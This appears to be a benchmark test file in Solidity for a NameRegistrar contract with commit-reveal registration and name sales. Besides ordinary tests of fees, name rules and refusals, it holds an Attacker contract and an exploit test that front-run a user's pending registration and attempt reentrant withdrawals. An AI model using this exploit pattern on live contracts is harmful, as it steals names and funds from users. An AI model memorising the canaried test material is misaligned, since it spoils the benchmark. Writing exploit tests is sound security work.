// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./NameRegistrar.sol";
import {Errors} from "@openzeppelin/contracts@5.4.0/utils/Errors.sol";

// assay-canary-cb193410-3676-4643-b6e3-c9a7bfda720c

interface Vm {
    function deal(address who, uint256 amount) external;
    function roll(uint256 number) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Sees transactions before they are in a block.
contract Attacker {
    NameRegistrar internal registrar;
    bool internal again;

    constructor(NameRegistrar registrar_) {
        registrar = registrar_;
    }

    receive() external payable {
        if (!again) return;
        again = false;
        try registrar.withdrawProceeds() {} catch {}
    }

    function sawCommitment(bytes32 commitment) external {
        registrar.commit(commitment);
    }

    function sawRegistration(string calldata name, INameRegistrar.Record calldata record, bytes32 salt, address account) external {
        try registrar.register{value: 0.01 ether}(name, record, salt) {} catch {}
        try registrar.commit(registrar.commitmentOf(account, name, record, salt)) {} catch {}
        try registrar.register{value: 0.01 ether}(name, record, salt) {} catch {}
        try registrar.commit(registrar.commitmentOf(address(this), name, record, salt)) {} catch {}
        try registrar.register{value: 0.01 ether}(name, record, salt) {} catch {}
        try registrar.register(name, record, salt) {} catch {}
        bytes32 id = registrar.idOf(name);
        try registrar.buy(id) {} catch {}
        try registrar.buy{value: 0.1 ether}(id) {} catch {}
        try registrar.transferName(id, address(this)) {} catch {}
        try registrar.offer(id, 1) {} catch {}
    }

    function market(bytes32 id) external {
        try registrar.buy{value: 0.2 ether}(id) {} catch {}
        try registrar.buy{value: 0.3 ether}(id) {} catch {}
        try registrar.offer(id, 0.3 ether) {} catch {}
        try registrar.buy{value: 0.3 ether}(id) {} catch {}
        again = true;
        try registrar.withdrawProceeds() {} catch {}
    }

    function look() external {
        bytes32 alike = registrar.commitmentOf(address(this), "Ida-name", INameRegistrar.Record(address(1), 1), 0);
        if (registrar.committedAt(address(this), alike) == 0) registrar.commit(alike);
        try registrar.register{value: 0.01 ether}("Ida-name", INameRegistrar.Record(address(1), 1), 0) {} catch {}
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address internal constant IDA = address(0x1DA);
    address internal constant TOM = address(0x709);
    address internal constant TREASURY = address(0x4111);
    bytes32 internal constant SALT = keccak256("a salt");

    NameRegistrar internal registrar;
    Attacker internal mallory;
    bytes32 internal seen; // the commitment in ida's transaction
    bytes32 internal old;

    function setUp() public {
        vm.roll(1_000);
        registrar = new NameRegistrar(TREASURY);
        mallory = new Attacker(registrar);
        vm.deal(address(mallory), 1 ether);
        vm.deal(IDA, 1 ether);
        vm.deal(TOM, 1 ether);
        bytes32 s = registrar.commitmentOf(TOM, "old-name", _record(), SALT);
        vm.prank(TOM);
        registrar.commit(s);
        vm.roll(1_010);
        vm.prank(TOM);
        old = registrar.register{value: 0.01 ether}("old-name", _record(), SALT);
        vm.prank(TOM);
        registrar.offer(old, 0.3 ether);

        seen = registrar.commitmentOf(IDA, "ida-name", _record(), SALT);
        vm.prank(IDA);
        registrar.commit(seen);
    }

    function _record() private pure returns (INameRegistrar.Record memory) {
        return INameRegistrar.Record(address(0x4E50), 3_600);
    }

    function _register(address who, string memory name, bytes32 salt) private returns (bool ok) {
        vm.prank(who);
        (ok, ) = address(registrar).call{value: 0.01 ether}(abi.encodeCall(registrar.register, (name, _record(), salt)));
    }

    function test_Regular() public {
        vm.deal(address(this), 1 ether);
        vm.roll(1_019);
        require(!_register(IDA, "ida-name", SALT), "too early");
        vm.roll(1_020);
        require(!_register(TOM, "ida-name", SALT) && !_register(IDA, "ida-name", 0), "not committed");
        require(_register(IDA, "ida-name", SALT), "registered");
        bytes32 id = registrar.idOf("ida-name");
        INameRegistrar.Name memory e = registrar.nameOf(id);
        require(e.registrant == IDA && e.owner == IDA && e.record.ttl == 3_600 && registrar.count() == 2, "entry");
        require(!_register(IDA, "ida-name", SALT), "once");

        vm.prank(IDA);
        (bool ok, ) = address(registrar).call{value: 0.2 ether}(abi.encodeCall(registrar.buy, (old)));
        require(!ok, "not that price");
        vm.prank(IDA);
        registrar.buy{value: 0.3 ether}(old);
        vm.prank(TOM);
        registrar.withdrawProceeds();
        require(registrar.nameOf(old).owner == IDA && TOM.balance == 1.29 ether, "sold");
        vm.prank(IDA);
        registrar.transferName(old, TREASURY);
        vm.prank(TREASURY);
        registrar.withdrawProceeds();
        require(TREASURY.balance == 0.02 ether && address(registrar).balance == 0, "fees");

        bytes32 late = registrar.commitmentOf(TOM, "tom-name", _record(), SALT);
        vm.prank(TOM);
        registrar.commit(late);
        vm.roll(60_000);
        require(!_register(TOM, "tom-name", SALT), "too late");
    }

    /// The honest call: ida registers the name she committed to, ten blocks later or after that.
    function idaRegisters() public {
        if (block.number < 1_025) vm.roll(1_025);
        vm.prank(IDA);
        registrar.register{value: 0.01 ether}("ida-name", _record(), SALT);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The fee is exact, and a name is three to twenty-four lower-case letters, digits and dashes.
    function test_RefusesNames() public {
        vm.roll(1_020);
        refuses(IDA, "NameRegistrar: wrong fee");
        registrar.register{value: 0.02 ether}("ida-name", _record(), SALT);
        vm.expectRevert("NameRegistrar: bad length");
        registrar.idOf("ab");
        vm.expectRevert("NameRegistrar: bad length");
        registrar.idOf("abcdefghijklmnopqrstuvwxy");
        vm.expectRevert("NameRegistrar: bad character");
        registrar.idOf("a name");
    }

    /// Only the owner offers or transfers, to somebody; proceeds need a receiver.
    function test_RefusesStrangers() public {
        refuses(IDA, "NameRegistrar: not the owner");
        registrar.transferName(old, IDA);
        refuses(IDA, "NameRegistrar: not the owner");
        registrar.offer(old, 1);
        refuses(TOM, "NameRegistrar: zero address");
        registrar.transferName(old, address(0));
        refuses(address(registrar), Errors.FailedCall.selector);
        registrar.withdrawProceeds();
    }

    /// Names are registered once, and sold at the price that is asked.
    function test_RefusesBuyers() public {
        bytes32 c = registrar.commitmentOf(IDA, "old-name", _record(), SALT);
        vm.prank(IDA);
        registrar.commit(c);
        vm.roll(1_030);
        refuses(IDA, "NameRegistrar: taken");
        registrar.register{value: 0.01 ether}("old-name", _record(), SALT);
        refuses(IDA, "NameRegistrar: wrong price");
        registrar.buy{value: 0.2 ether}(old);
        refuses(IDA, "NameRegistrar: not for sale");
        registrar.buy(seen);
    }

    // The attacker sees ida's commitment, and fifteen blocks later her registration before it is in a block.
    function exploit() public {
        mallory.sawCommitment(seen);
        mallory.look();
        vm.roll(1_025);
        mallory.look();
        mallory.market(old);
        mallory.sawRegistration("ida-name", _record(), SALT, IDA);
    }

    function test_Exploit() public {
        exploit();
        (bool served, ) = address(this).call(abi.encodeCall(this.idaRegisters, ()));
        require(!served, "ida has her name");
    }

    function target() public view returns (address) {
        return address(registrar);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
